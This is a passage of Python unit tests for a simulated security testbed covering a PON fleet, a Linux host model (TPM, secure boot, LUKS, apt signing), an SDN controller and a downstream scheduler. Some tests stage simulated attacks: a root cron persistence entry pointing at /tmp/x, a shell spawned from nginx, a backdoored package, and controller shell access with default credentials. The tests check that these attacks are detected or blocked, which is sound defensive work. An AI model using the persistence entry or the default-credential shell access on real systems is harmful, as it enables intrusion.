        # must stay byte-identical across worker counts.
        kwargs = dict(n_olts=2, n_tenants=6, seconds=0.3, seed=5,
                      downstream=True)
        single = run_fleet_parallel(workers=1, **kwargs).render()
        multi = run_fleet_parallel(workers=2, **kwargs).render()
        assert single == multi
        assert "dn Mbps" in single
        assert "fleet downstream throughput:" in single

    def test_merged_events_land_on_the_parent_bus_in_time_order(self):
        driver = ParallelFleetDriver(n_olts=2, n_tenants=4, seed=0)
        try:
            report = driver.run(0.2)
        finally:
            driver.pool.close()
        timestamps = [e.timestamp for e in driver.bus.history()]
        assert timestamps == sorted(timestamps)
        assert any(e.topic == "pon.dba.grant"
                   for e in driver.bus.history())
        assert report.scheduler_events > 0
        assert report.monitor_passes == 2

    def test_hostile_flagged_through_the_merged_bus(self):
        report = run_fleet_parallel(n_olts=2, n_tenants=6, seconds=0.5,
                                    seed=0, workers=1)
        assert report.hostile_tenants == ["olt1-tenant-hostile"]
        latency = report.alert_latency_s("olt1-tenant-hostile")
        assert latency is not None and 0 < latency <= 0.5
        benign = {tenant for olt in report.olts.values()
                  for tenant in olt.tenants} - set(report.hostile_tenants)
        assert not benign & set(report.alert_first_at)

    def test_validation(self):
        with pytest.raises(ValueError):
            ParallelFleetDriver(n_olts=0)
        with pytest.raises(ValueError):
            ParallelFleetDriver(n_olts=4, n_tenants=2)
        with pytest.raises(ValueError):
            ParallelFleetDriver(monitor_interval_s=0)
        driver = ParallelFleetDriver(n_olts=1, n_tenants=2)
        try:
            with pytest.raises(ValueError):
                driver.run(0)
        finally:
            driver.pool.close()


class TestFleetWorkersCli:
    def test_workers_flag_accepted(self, capsys):
        assert main(["fleet", "--olts", "2", "--tenants", "4",
                     "--seconds", "0.2", "--workers", "1"]) == 0
        out = capsys.readouterr().out
        assert "fleet run: 2 OLTs x 4 tenants" in out
        assert "Jain across OLTs" in out

    def test_invalid_workers_exit_2(self, capsys):
        assert main(["fleet", "--workers", "0"]) == 2
        assert "error: --workers" in capsys.readouterr().err

"""Unit tests for the simulated Linux host substrate."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.common import crypto
from repro.common.errors import (
    AuthenticationError,
    AuthorizationError,
    ConfigurationError,
    IntegrityError,
    NotFoundError,
)
from repro.osmodel.boot import (
    BootChain, BootComponent, BootStage, FirmwareRom, PCR_KERNEL, sign_component,
)
from repro.osmodel.filesystem import FileSystem
from repro.osmodel.host import CLOUD_DISTRO, Host, ONL_DISTRO
from repro.osmodel.kernel import KernelConfig, stock_onl_kernel
from repro.osmodel.packages import (
    AptRepository, Package, PackageDatabase, compare_versions, version_in_range,
)
from repro.osmodel.presets import cloud_host, stock_onl_olt_host
from repro.osmodel.services import Service, ServiceRegistry
from repro.osmodel.storage import LuksVolume
from repro.osmodel.tpm import Tpm
from repro.osmodel.users import User, UserDatabase


class TestFileSystem:
    def test_write_read_roundtrip(self):
        fs = FileSystem()
        fs.write("/etc/motd", b"hello")
        assert fs.read("/etc/motd") == b"hello"

    def test_relative_path_rejected(self):
        with pytest.raises(ValueError):
            FileSystem().write("etc/motd", b"")

    def test_missing_file_raises(self):
        with pytest.raises(NotFoundError):
            FileSystem().read("/nope")

    def test_immutable_blocks_write_and_delete(self):
        fs = FileSystem()
        fs.write("/usr/bin/sudo", b"bin")
        fs.set_immutable("/usr/bin/sudo")
        with pytest.raises(AuthorizationError):
            fs.write("/usr/bin/sudo", b"evil")
        with pytest.raises(AuthorizationError):
            fs.delete("/usr/bin/sudo")

    def test_observer_sees_mutations(self):
        fs = FileSystem()
        events = []
        fs.observe(lambda op, path, actor: events.append((op, path, actor)))
        fs.write("/a", b"1", actor="attacker")
        fs.chmod("/a", 0o777)
        fs.delete("/a")
        assert [e[0] for e in events] == ["write", "chmod", "delete"]
        assert events[0][2] == "attacker"

    def test_setuid_and_world_writable_globs(self):
        fs = FileSystem()
        fs.write("/bin/su", b"x", mode=0o4755)
        fs.write("/tmp/x", b"x", mode=0o777)
        fs.write("/etc/safe", b"x", mode=0o644)
        assert [n.path for n in fs.glob_setuid()] == ["/bin/su"]
        assert [n.path for n in fs.glob_world_writable()] == ["/tmp/x"]

    def test_walk_prefix(self):
        fs = FileSystem()
        fs.write("/etc/a", b"")
        fs.write("/etc/ssh/b", b"")
        fs.write("/var/c", b"")
        assert len(list(fs.walk("/etc"))) == 2

    def test_walk_prefix_respects_boundary(self):
        fs = FileSystem()
        fs.write("/etc2/trick", b"")
        assert list(fs.walk("/etc")) == []

    def test_snapshot_hashes_change_with_content(self):
        fs = FileSystem()
        fs.write("/f", b"one")
        before = fs.snapshot_hashes()
        fs.write("/f", b"two")
        assert fs.snapshot_hashes()["/f"] != before["/f"]

    def test_chown(self):
        fs = FileSystem()
        fs.write("/f", b"")
        fs.chown("/f", "admin", "staff")
        assert fs.node("/f").owner == "admin"
        assert fs.node("/f").group == "staff"


class TestKernelConfig:
    def test_stock_onl_is_soft(self):
        kernel = stock_onl_kernel()
        assert kernel.kexec_enabled
        assert kernel.kprobes_enabled
        assert not kernel.stack_protector
        assert kernel.cmdline["mitigations"] == "off"

    def test_sdn_required_option_protected(self):
        kernel = stock_onl_kernel()
        with pytest.raises(ConfigurationError):
            kernel.set_kconfig("CONFIG_BPF_SYSCALL", "n")
        kernel.set_kconfig("CONFIG_KEXEC", "n")
        assert not kernel.kexec_enabled

    def test_module_loading_can_be_disabled(self):
        kernel = KernelConfig()
        kernel.load_module("dccp")
        kernel.set_sysctl("kernel.modules_disabled", "1")
        with pytest.raises(ConfigurationError):
            kernel.load_module("sctp")

    def test_lsm_validation(self):
        kernel = KernelConfig()
        kernel.enable_lsm("apparmor")
        assert kernel.lsm == "apparmor"
        with pytest.raises(ConfigurationError):
            kernel.enable_lsm("tomoyo")

    def test_microcode_must_move_forward(self):
        kernel = KernelConfig()
        kernel.apply_microcode(10)
        with pytest.raises(ConfigurationError):
            kernel.apply_microcode(10)


class TestVersions:
    @pytest.mark.parametrize("a,b,expected", [
        ("1.0", "1.0", 0),
        ("1.0", "1.1", -1),
        ("2.0", "1.9.9", 1),
        ("1.1.1d", "1.1.1k", -1),
        ("7.9p1", "8.0p1", -1),
        ("1.28.4", "1.28", 1),
        ("4.19.0-onl", "4.19.0", 1),
    ])
    def test_compare(self, a, b, expected):
        assert compare_versions(a, b) == expected

    def test_range_semantics(self):
        assert version_in_range("1.5", "1.0", "2.0")
        assert not version_in_range("2.0", "1.0", "2.0")  # fixed is exclusive
        assert version_in_range("1.0", "1.0", "2.0")      # introduced inclusive
        assert version_in_range("0.9", None, "2.0")
        assert version_in_range("99", "1.0", None)

    @given(st.lists(st.integers(min_value=0, max_value=40), min_size=1, max_size=4),
           st.lists(st.integers(min_value=0, max_value=40), min_size=1, max_size=4))
    @settings(max_examples=100, deadline=None)
    def test_compare_is_antisymmetric(self, a_parts, b_parts):
        a = ".".join(map(str, a_parts))
        b = ".".join(map(str, b_parts))
        assert compare_versions(a, b) == -compare_versions(b, a)


class TestAptRepository:
    def test_signed_metadata_verifies(self):
        key = crypto.RsaKeyPair.generate(bits=512, seed=1)
        repo = AptRepository("main", signing_keypair=key)
        repo.publish(Package("nginx", "1.22"))
        AptRepository.verify_metadata(repo.metadata(), [key.public])

    def test_unsigned_metadata_rejected(self):
        repo = AptRepository("sketchy")
        repo.publish(Package("tool", "1.0"))
        with pytest.raises(IntegrityError):
            AptRepository.verify_metadata(repo.metadata(), [])

    def test_untrusted_key_rejected(self):
        signer = crypto.RsaKeyPair.generate(bits=512, seed=2)
        other = crypto.RsaKeyPair.generate(bits=512, seed=3)
        repo = AptRepository("evil", signing_keypair=signer)
        with pytest.raises(IntegrityError):
            AptRepository.verify_metadata(repo.metadata(), [other.public])

    def test_tampered_index_rejected(self):
        key = crypto.RsaKeyPair.generate(bits=512, seed=4)
        repo = AptRepository("main", signing_keypair=key)
        repo.publish(Package("bash", "5.0"))
        meta = repo.metadata()
        meta.package_index["bash"] = "5.0-backdoored"
        with pytest.raises(IntegrityError):
            AptRepository.verify_metadata(meta, [key.public])


class TestTpm:
    def test_extend_is_one_way_and_ordered(self):
        tpm = Tpm()
        tpm.extend(0, b"a")
        after_a = tpm.read_pcr(0)
        tpm.extend(0, b"b")
        assert tpm.read_pcr(0) != after_a

        other = Tpm()
        other.extend(0, b"b")
        other.extend(0, b"a")
        assert other.read_pcr(0) != tpm.read_pcr(0)

    def test_seal_unseal_roundtrip(self):
        tpm = Tpm()
        tpm.extend(8, b"kernel-v1")
        tpm.seal("disk-key", b"supersecret", [8])
        assert tpm.unseal("disk-key") == b"supersecret"

    def test_unseal_fails_after_state_change(self):
        tpm = Tpm()
        tpm.extend(8, b"kernel-v1")
        tpm.seal("disk-key", b"supersecret", [8])
        tpm.extend(8, b"rootkit")
        with pytest.raises(AuthorizationError):
            tpm.unseal("disk-key")

    def test_unseal_unknown_name(self):
        with pytest.raises(NotFoundError):
            Tpm().unseal("ghost")

    def test_reset_clears_pcrs_and_log(self):
        tpm = Tpm()
        tpm.extend(0, b"x", description="fw")
        tpm.reset()
        assert tpm.read_pcr(0) == b"\x00" * 32
        assert tpm.event_log == []

    def test_bad_pcr_index(self):
        with pytest.raises(ValueError):
            Tpm().read_pcr(99)


class TestBootChain:
    @pytest.fixture
    def signed_chain(self):
        ca = crypto.RsaKeyPair.generate(bits=512, seed=10)       # "Microsoft"
        mok = crypto.RsaKeyPair.generate(bits=512, seed=11)      # operator key
        rom = FirmwareRom(secure_boot=True)
        rom.enroll_ca(ca.public)
        rom.enroll_mok(mok.public)
        tpm = Tpm()
        chain = BootChain(rom, tpm=tpm)
        chain.install(sign_component(BootStage.SHIM, b"shim-15.7", ca))
        chain.install(sign_component(BootStage.GRUB, b"grub-2.06", mok))
        chain.install(sign_component(BootStage.KERNEL, b"vmlinuz-onl", mok))
        return chain, ca, mok, tpm

    def test_good_chain_boots(self, signed_chain):
        chain, *_ = signed_chain
        outcome = chain.boot()
        assert outcome.booted
        assert outcome.verified_stages == ["shim", "grub", "kernel"]

    def test_tampered_kernel_blocked(self, signed_chain):
        chain, _, mok, _ = signed_chain
        tampered = BootComponent(BootStage.KERNEL, b"vmlinuz-rootkit",
                                 signature=chain.components[BootStage.KERNEL].signature)
        chain.install(tampered)
        outcome = chain.boot()
        assert not outcome.booted
        assert "kernel" in outcome.failure

    def test_shim_must_chain_to_ca_not_mok(self, signed_chain):
        chain, _, mok, _ = signed_chain
        chain.install(sign_component(BootStage.SHIM, b"shim-evil", mok))
        assert not chain.boot().booted

    def test_revoked_image_blocked(self, signed_chain):
        chain, ca, *_ = signed_chain
        chain.rom.revoke_image(b"shim-15.7")
        assert not chain.boot().booted

    def test_secure_boot_off_boots_anything_but_measures(self, signed_chain):
        chain, _, _, tpm = signed_chain
        chain.rom.secure_boot = False
        chain.install(BootComponent(BootStage.KERNEL, b"vmlinuz-rootkit"))
        outcome = chain.boot()
        assert outcome.booted  # nothing verified...
        good_measurement = crypto.sha256_hex(b"vmlinuz-onl")
        logged = [digest for (_, desc, digest) in tpm.event_log if desc == "kernel"]
        assert logged and logged[0] != good_measurement  # ...but evidence exists

    def test_missing_stage_fails(self):
        chain = BootChain(FirmwareRom(secure_boot=False))
        assert not chain.boot().booted

    def test_measured_boot_changes_pcr_on_kernel_change(self, signed_chain):
        chain, _, mok, tpm = signed_chain
        chain.boot()
        good = tpm.read_pcr(PCR_KERNEL)
        chain.install(sign_component(BootStage.KERNEL, b"vmlinuz-other", mok))
        chain.boot()
        assert tpm.read_pcr(PCR_KERNEL) != good


class TestLuksVolume:
    def test_passphrase_unlock_and_data_roundtrip(self):
        vol = LuksVolume("data", "correct horse")
        vol.unlock_with_passphrase("correct horse")
        vol.write("customers.db", b"records")
        assert vol.read("customers.db") == b"records"
        assert vol.raw_ciphertext("customers.db") != b"records"

    def test_wrong_passphrase_rejected(self):
        vol = LuksVolume("data", "right")
        with pytest.raises(AuthenticationError):
            vol.unlock_with_passphrase("wrong")
        assert vol.failed_unlocks == 1

    def test_locked_volume_denies_io(self):
        vol = LuksVolume("data", "p")
        with pytest.raises(AuthorizationError):
            vol.write("k", b"v")
        vol.unlock_with_passphrase("p")
        vol.write("k", b"v")
        vol.lock()
        with pytest.raises(AuthorizationError):
            vol.read("k")

    def test_tpm_binding_unlocks_on_good_state(self):
        tpm = Tpm()
        tpm.extend(8, b"kernel-good")
        vol = LuksVolume("root", "fallback")
        vol.bind_to_tpm(tpm, [8])
        vol.unlock_with_tpm(tpm)
        assert vol.unlocked

    def test_tpm_unlock_fails_on_tampered_boot(self):
        tpm = Tpm()
        tpm.extend(8, b"kernel-good")
        vol = LuksVolume("root", "fallback")
        vol.bind_to_tpm(tpm, [8])
        tpm.reset()
        tpm.extend(8, b"kernel-evil")
        with pytest.raises(AuthorizationError):
            vol.unlock_with_tpm(tpm)
        vol.unlock_with_passphrase("fallback")  # manual fallback still works
        assert vol.unlocked

    def test_no_tpm_slot_is_lesson3_case(self):
        vol = LuksVolume("root", "manual only")
        with pytest.raises(NotFoundError):
            vol.unlock_with_tpm(Tpm())

    def test_empty_passphrase_rejected(self):
        with pytest.raises(ValueError):
            LuksVolume("v", "")

    def test_slot_limit(self):
        vol = LuksVolume("v", "p0")
        for i in range(1, LuksVolume.MAX_SLOTS):
            vol.add_passphrase_slot(f"p{i}")
        with pytest.raises(ValueError):
            vol.add_passphrase_slot("one too many")


class TestServicesAndUsers:
    def test_listening_ports(self):
        reg = ServiceRegistry()
        reg.add(Service("sshd", port=22))
        reg.add(Service("stopped", port=99, running=False))
        reg.add(Service("daemon"))
        assert set(reg.listening_ports()) == {22}

    def test_user_privilege_queries(self):
        db = UserDatabase()
        db.add(User("root", uid=0))
        db.add(User("admin", uid=1000, sudo=True, sudo_nopasswd=True))
        db.add(User("joe", uid=1001))
        assert len(db.root_equivalents()) == 2
        assert [u.name for u in db.passwordless_sudoers()] == ["admin"]

    def test_duplicate_user_rejected(self):
        db = UserDatabase()
        db.add(User("x", uid=1))
        with pytest.raises(ValueError):
            db.add(User("x", uid=2))


class TestHost:
    def test_stock_onl_host_shape(self):
        host = stock_onl_olt_host()
        assert host.distro.is_legacy
        assert "telnetd" in host.services
        assert host.services.get("sshd").config["PermitRootLogin"] == "yes"
        assert len(host.users.passwordless_sudoers()) == 2
        assert host.fs.glob_world_writable()

    def test_cloud_host_is_modern(self):
        host = cloud_host()
        assert not host.distro.is_legacy
        assert host.kernel.stack_protector
        assert host.kernel.lsm == "apparmor"

    def test_apt_signature_policy_enforced(self):
        host = stock_onl_olt_host()
        host.require_signed_apt()
        unsigned = AptRepository("unsigned")
        unsigned.publish(Package("tool", "1.0"))
        with pytest.raises(IntegrityError):
            host.apt_install(unsigned, "tool")

        key = crypto.RsaKeyPair.generate(bits=512, seed=20)
        signed = AptRepository("official", signing_keypair=key)
        signed.publish(Package("tool", "1.0"))
        host.trust_apt_key(key.public)
        assert host.apt_install(signed, "tool").name == "tool"
        assert host.install_log[-1].verified

    def test_lesson3_new_package_blocked_on_old_base(self):
        host = stock_onl_olt_host()
        repo = AptRepository("backports")
        repo.publish(Package("clevis", "19", min_distro_release=11,
                             depends=("tpm2-tools",)))
        with pytest.raises(ConfigurationError):
            host.apt_install(repo, "clevis")
        pkg = host.apt_install(repo, "clevis", force=True)
        assert pkg.name == "clevis"
        assert host.install_log[-1].conflict_risk

    def test_missing_package_not_found(self):
        host = stock_onl_olt_host()
        with pytest.raises(NotFoundError):
            host.apt_install(AptRepository("r"), "ghost")

    def test_syscall_and_file_events_reach_bus(self):
        host = stock_onl_olt_host()
        syscalls, files = [], []
        host.bus.subscribe("host.syscall", syscalls.append)
        host.bus.subscribe("host.file", files.append)
        host.syscall("nginx", "execve", path="/bin/sh")
        host.fs.write("/etc/cron.d/evil", b"* * * * * root /tmp/x", actor="nginx")
        assert syscalls[0].get("syscall") == "execve"
        assert files[-1].get("path") == "/etc/cron.d/evil"

    def test_boot_emits_event(self):
        host = cloud_host()
        events = []
        host.bus.subscribe("host.boot", events.append)
        host.boot()  # no boot components installed -> fails but emits
        assert events and events[0].get("booted") is False

"""Unit tests for the SDN substrate (ONOS-like and VOLTHA-like)."""

import pytest

from repro.common.errors import AuthenticationError, AuthorizationError, NotFoundError
from repro.sdn.controller import (
    PRODUCTION_REQUIRED, ApiAccount, ApiCapability, SdnController,
)
from repro.sdn.voltha import ServiceAccount, VolthaCore


class TestSdnControllerDefaults:
    def test_ships_with_default_credentials(self):
        controller = SdnController()
        report = controller.exposure_report()
        assert report["default_credentials"] == ["onos"]
        assert report["unnecessary_open"]  # shell, debug, raw logs all open

    def test_default_account_can_do_anything(self):
        controller = SdnController()
        result = controller.call("onos", ApiCapability.SHELL_ACCESS,
                                 password="rocks")
        assert result["status"] == "shell opened"

    def test_bad_password_rejected(self):
        controller = SdnController()
        with pytest.raises(AuthenticationError):
            controller.call("onos", ApiCapability.NETWORK_CONFIG, password="nope")

    def test_unknown_account_rejected(self):
        with pytest.raises(AuthenticationError):
            SdnController().call("ghost", ApiCapability.NETWORK_CONFIG)


class TestSdnControllerHardened:
    @pytest.fixture
    def hardened(self):
        controller = SdnController()
        controller.remove_account("onos")
        controller.add_account(ApiAccount(
            username="mgmt-svc", tls_certificate_fp="fp-mgmt",
            capabilities=set(PRODUCTION_REQUIRED)))
        controller.require_tls()
        for capability in (ApiCapability.SHELL_ACCESS,
                           ApiCapability.LOW_LEVEL_DEBUG,
                           ApiCapability.RAW_LOG_RETRIEVAL):
            controller.block_capability(capability)
        controller.deactivate_app("org.onosproject.gui2")
        controller.deactivate_app("org.onosproject.cli")
        return controller

    def test_production_capabilities_still_work(self, hardened):
        result = hardened.call("mgmt-svc", ApiCapability.DEVICE_REGISTRATION,
                               tls_certificate_fp="fp-mgmt", device_id="olt-1")
        assert result["status"] == "registered"
        assert hardened.devices["olt-1"].registered

    def test_blocked_capability_denied_even_with_grant(self, hardened):
        hardened.accounts["mgmt-svc"].capabilities.add(ApiCapability.SHELL_ACCESS)
        with pytest.raises(AuthorizationError):
            hardened.call("mgmt-svc", ApiCapability.SHELL_ACCESS,
                          tls_certificate_fp="fp-mgmt")

    def test_tls_certificate_required(self, hardened):
        with pytest.raises(AuthenticationError):
            hardened.call("mgmt-svc", ApiCapability.NETWORK_CONFIG,
                          tls_certificate_fp="forged")

    def test_password_accounts_locked_out_under_tls(self, hardened):
        hardened.add_account(ApiAccount(username="legacy", password="pw",
                                        capabilities=set(PRODUCTION_REQUIRED)))
        with pytest.raises(AuthenticationError):
            hardened.call("legacy", ApiCapability.NETWORK_CONFIG, password="pw")

    def test_exposure_report_clean(self, hardened):
        report = hardened.exposure_report()
        assert report["default_credentials"] == []
        assert report["unnecessary_open"] == []
        assert report["tls_required"]

    def test_flow_programming_on_registered_device(self, hardened):
        hardened.call("mgmt-svc", ApiCapability.DEVICE_REGISTRATION,
                      tls_certificate_fp="fp-mgmt", device_id="olt-1")
        hardened.call("mgmt-svc", ApiCapability.FLOW_PROGRAMMING,
                      tls_certificate_fp="fp-mgmt", device_id="olt-1",
                      match="vlan=100", action="fwd")
        assert hardened.devices["olt-1"].flows

    def test_flow_on_unknown_device(self, hardened):
        with pytest.raises(NotFoundError):
            hardened.call("mgmt-svc", ApiCapability.FLOW_PROGRAMMING,
                          tls_certificate_fp="fp-mgmt", device_id="nope")


class TestVoltha:
    @pytest.fixture
    def voltha(self):
        core = VolthaCore()
        core.add_account(ServiceAccount("admin-svc", "fp-admin", admin=True))
        core.add_account(ServiceAccount("viewer", "fp-view", admin=False))
        core.enforce_client_certs()
        return core

    def test_device_lifecycle(self, voltha):
        voltha.preprovision("admin-svc", "olt-1", "openolt",
                            tls_certificate_fp="fp-admin")
        device = voltha.enable("admin-svc", "olt-1", tls_certificate_fp="fp-admin")
        assert device.admin_state == "ENABLED"
        device = voltha.disable("admin-svc", "olt-1", tls_certificate_fp="fp-admin")
        assert device.admin_state == "DISABLED"

    def test_admin_required_for_lifecycle(self, voltha):
        with pytest.raises(AuthorizationError):
            voltha.preprovision("viewer", "olt-1", "openolt",
                                tls_certificate_fp="fp-view")

    def test_viewer_can_list(self, voltha):
        voltha.preprovision("admin-svc", "olt-1", "openolt",
                            tls_certificate_fp="fp-admin")
        devices = voltha.list_devices("viewer", tls_certificate_fp="fp-view")
        assert [d.device_id for d in devices] == ["olt-1"]

    def test_certificate_mismatch_rejected(self, voltha):
        with pytest.raises(AuthenticationError):
            voltha.list_devices("viewer", tls_certificate_fp="stolen")

    def test_enable_unknown_device(self, voltha):
        with pytest.raises(NotFoundError):
            voltha.enable("admin-svc", "ghost", tls_certificate_fp="fp-admin")

"""Tests for the downstream scheduling plane (PR 5 tentpole).

Covers the bounded per-ONU queues, the strict-priority/weighted-fair
drain (batched flat arrays vs the naive reference), the OLT cycle
wiring, the bidirectional load generator, and the CLI flags.
"""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.common import telemetry
from repro.common.events import EventBus
from repro.pon.network import PonNetwork
from repro.pon.onu import Onu
from repro.traffic import (
    DownstreamQueue, DownstreamScheduler, QosEnforcer, Request,
    run_traffic_experiment,
)
from repro.traffic.telemetry import (
    DOWNSTREAM_QUEUE_GAUGE, DOWNSTREAM_THROUGHPUT_GAUGE,
)


@pytest.fixture(autouse=True)
def _fresh_defaults():
    telemetry.reset_default_registry()
    telemetry.set_telemetry_enabled(True)
    yield
    telemetry.reset_default_registry()
    telemetry.set_telemetry_enabled(True)


# ---------------------------------------------------------------------------
# DownstreamQueue: bounded OLT buffer with drop accounting
# ---------------------------------------------------------------------------


class TestDownstreamQueue:
    def test_tail_drop_when_full_with_accounting(self):
        queue = DownstreamQueue(1, "ONU1", "t", limit_bytes=1000)
        assert queue.offer(Request("t", 600, 0.0))
        assert queue.offer(Request("t", 400, 0.0))      # exactly at limit
        assert not queue.offer(Request("t", 1, 0.0))    # over: tail drop
        assert queue.queued_bytes == 1000
        assert queue.dropped_requests == 1
        assert queue.dropped_bytes == 1
        assert not queue.offer(Request("t", 500, 0.0))
        assert queue.dropped_requests == 2
        assert queue.dropped_bytes == 501

    def test_limit_must_be_positive(self):
        with pytest.raises(ValueError, match="limit_bytes"):
            DownstreamQueue(1, "ONU1", "t", limit_bytes=0)

    def test_drain_frees_room_for_new_offers(self):
        queue = DownstreamQueue(1, "ONU1", "t", limit_bytes=1000)
        queue.offer(Request("t", 1000, 0.0))
        sent, completed = queue.drain(1000, now=0.1)
        assert sent == 1000 and len(completed) == 1
        assert queue.offer(Request("t", 1000, 0.1))


# ---------------------------------------------------------------------------
# DownstreamScheduler: registration + the drain cycle
# ---------------------------------------------------------------------------


def _loaded(setup, batched=True):
    scheduler = DownstreamScheduler(batched=batched)
    for index, (priority, weight, backlog) in enumerate(setup):
        scheduler.register_queue(f"ONU{index}", f"tenant-{index}",
                                 priority=priority, weight=weight)
        if backlog:
            scheduler.enqueue(Request(f"tenant-{index}", backlog, 0.0))
    return scheduler


class TestDownstreamScheduler:
    def test_duplicate_tenant_rejected(self):
        scheduler = DownstreamScheduler()
        scheduler.register_queue("ONU1", "t")
        with pytest.raises(ValueError, match="already has"):
            scheduler.register_queue("ONU2", "t")

    def test_unknown_tenant_enqueue_raises(self):
        scheduler = DownstreamScheduler()
        with pytest.raises(KeyError, match="no downstream queue"):
            scheduler.enqueue(Request("ghost", 100, 0.0))

    def test_queue_limit_validation(self):
        with pytest.raises(ValueError, match="queue_limit_bytes"):
            DownstreamScheduler(queue_limit_bytes=0)

    def test_strict_priority_dominates_beyond_guarantee(self):
        scheduler = DownstreamScheduler(guaranteed_share=0.1)
        scheduler.register_queue("ONU1", "t-high", priority=0)
        scheduler.register_queue("ONU2", "t-low", priority=3)
        scheduler.enqueue(Request("t-high", 100_000, 0.0))
        scheduler.enqueue(Request("t-low", 100_000, 0.0))
        results = scheduler.run_cycle(100_000)
        assert results["t-high"][0] > 0.85 * 100_000
        assert results["t-low"][0] > 0          # anti-starvation quantum

    def test_weighted_fair_within_a_class(self):
        scheduler = DownstreamScheduler(guaranteed_share=0.0)
        scheduler.register_queue("ONU1", "t-heavy", priority=1, weight=3.0)
        scheduler.register_queue("ONU2", "t-light", priority=1, weight=1.0)
        scheduler.enqueue(Request("t-heavy", 400_000, 0.0))
        scheduler.enqueue(Request("t-light", 400_000, 0.0))
        results = scheduler.run_cycle(100_000)
        heavy, light = results["t-heavy"][0], results["t-light"][0]
        assert heavy + light == 100_000
        assert heavy == pytest.approx(3 * light, rel=0.05)

    @given(st.lists(
        st.tuples(st.integers(min_value=0, max_value=3),
                  st.floats(min_value=0.5, max_value=8.0),
                  st.integers(min_value=0, max_value=500_000)),
        min_size=1, max_size=12),
        st.integers(min_value=0, max_value=2_000_000))
    @settings(max_examples=60, deadline=None)
    def test_work_conserving(self, setup, capacity):
        scheduler = _loaded(setup)
        backlog = scheduler.total_backlog()
        results = scheduler.run_cycle(capacity)
        sent = sum(sent for sent, _ in results.values())
        assert sent == min(capacity, backlog)
        assert scheduler.total_backlog() == backlog - sent

    @given(st.lists(
        st.tuples(st.integers(min_value=0, max_value=3),
                  st.floats(min_value=0.5, max_value=8.0),
                  st.integers(min_value=0, max_value=500_000)),
        min_size=1, max_size=12),
        st.integers(min_value=0, max_value=2_000_000))
    @settings(max_examples=60, deadline=None)
    def test_batched_drain_matches_naive_reference(self, setup, capacity):
        fast = _loaded(setup, batched=True)
        reference = _loaded(setup, batched=False)
        assert fast.run_cycle(capacity, now=0.02) \
            == reference.run_cycle(capacity, now=0.02)

    def test_grant_event_mirrors_dba_grant(self):
        bus = EventBus()
        scheduler = DownstreamScheduler(bus=bus)
        queue = scheduler.register_queue("ONU1", "t")
        scheduler.enqueue(Request("t", 5000, 0.0))
        scheduler.run_cycle(3000, now=0.02)
        (event,) = bus.history("pon.downstream.grant")
        assert event.get("cycle") == 1
        assert event.get("capacity_bytes") == 3000
        assert event.get("granted_bytes") == 3000
        assert event.get("backlog_bytes") == 2000
        assert event.get("queues") == {queue.alloc_id: 3000}


# ---------------------------------------------------------------------------
# OLT wiring: attach + per-cycle capacity from the downstream line rate
# ---------------------------------------------------------------------------


class TestOltDownstreamCycle:
    def test_attach_requires_a_scheduler(self):
        network = PonNetwork.build("olt-x", n_ports=1)
        with pytest.raises(TypeError, match="run_cycle"):
            network.olt.attach_downstream(object())

    def test_cycle_without_scheduler_raises(self):
        network = PonNetwork.build("olt-x", n_ports=1)
        with pytest.raises(ValueError, match="no downstream scheduler"):
            network.olt.run_downstream_cycle(0.002)

    def test_cycle_duration_must_be_positive(self):
        network = PonNetwork.build("olt-x", n_ports=1)
        network.olt.attach_downstream(DownstreamScheduler())
        with pytest.raises(ValueError, match="cycle must be positive"):
            network.olt.run_downstream_cycle(0.0)

    def test_capacity_follows_downstream_line_rate(self):
        network = PonNetwork.build("olt-x", n_ports=1)
        scheduler = DownstreamScheduler()
        scheduler.register_queue("ONU1", "t")
        network.olt.attach_downstream(scheduler)
        # More backlog than one 2 ms cycle of 2.488 Gbps (622 kB) can
        # carry, while staying inside the 1 MiB queue limit.
        assert scheduler.enqueue(Request("t", 1_000_000, 0.0))
        results = network.olt.run_downstream_cycle(0.002)
        expected = int(2.488e9 / 8.0 * 0.002)
        assert results["t"][0] == expected

    def test_downstream_bps_validated(self):
        from repro.pon.olt import Olt
        with pytest.raises(ValueError, match="downstream_bps"):
            Olt("olt-x", downstream_bps=0)


# ---------------------------------------------------------------------------
# Bidirectional load generation end-to-end
# ---------------------------------------------------------------------------


class TestBidirectionalLoadGenerator:
    def test_downstream_delivers_and_reports(self):
        report = run_traffic_experiment(n_tenants=3, seconds=0.3,
                                        downstream=True)
        assert report.downstream
        assert report.downstream_capacity_bps == pytest.approx(2.488e9)
        for row in report.tenants.values():
            assert row.offered_down_bytes > 0
            assert row.delivered_down_bytes <= row.offered_down_bytes
        assert any(row.delivered_down_bytes > 0
                   for row in report.tenants.values())
        rendered = report.render()
        assert "downstream: broadcast 2488 Mbps" in rendered
        assert "Jain fairness index (downstream):" in rendered

    def test_same_seed_replays_identically(self):
        renders = []
        for _ in range(2):
            telemetry.reset_default_registry()
            report = run_traffic_experiment(n_tenants=3, seconds=0.3,
                                            seed=7, downstream=True)
            renders.append(report.render())
        assert renders[0] == renders[1]

    def test_hostile_downstream_clamped_by_qos(self):
        report = run_traffic_experiment(n_tenants=4, seconds=0.5,
                                        downstream=True)
        hostile = report.tenants["tenant-hostile"]
        assert hostile.delivered_down_bytes < 0.2 * hostile.offered_down_bytes
        assert hostile.dropped_down_requests > 0

    def test_upstream_rows_unchanged_without_downstream(self):
        report = run_traffic_experiment(n_tenants=3, seconds=0.3)
        assert not report.downstream
        assert "downstream" not in report.render()
        for row in report.tenants.values():
            assert row.offered_down_bytes == 0
            assert row.downstream_throughput_bps == 0.0

    def test_downstream_gauges_populated(self):
        telemetry.reset_default_registry()
        run_traffic_experiment(n_tenants=2, seconds=0.2, downstream=True)
        registry = telemetry.default_registry()
        throughput = registry.get(DOWNSTREAM_THROUGHPUT_GAUGE)
        assert any(child.value > 0
                   for child in throughput.samples.values())
        assert registry.get(DOWNSTREAM_QUEUE_GAUGE) is not None


class TestDownstreamQosDirection:
    def test_drop_and_backpressure_events_carry_direction(self):
        bus = EventBus()
        qos = QosEnforcer(bus=bus, direction="downstream")
        qos.add_tenant("t", rate_bps=8000, burst_bytes=100,
                       queue_limit_bytes=100)
        for _ in range(5):
            qos.submit(Request("t", 400, 0.0), now=0.0)
        qos.cycle_end(now=0.02)
        (drop,) = bus.history("qos.drop")
        assert drop.get("direction") == "downstream"

    def test_backpressure_events_carry_direction(self):
        bus = EventBus()
        qos = QosEnforcer(bus=bus, direction="downstream")
        qos.add_tenant("t", rate_bps=8e6, burst_bytes=1000,
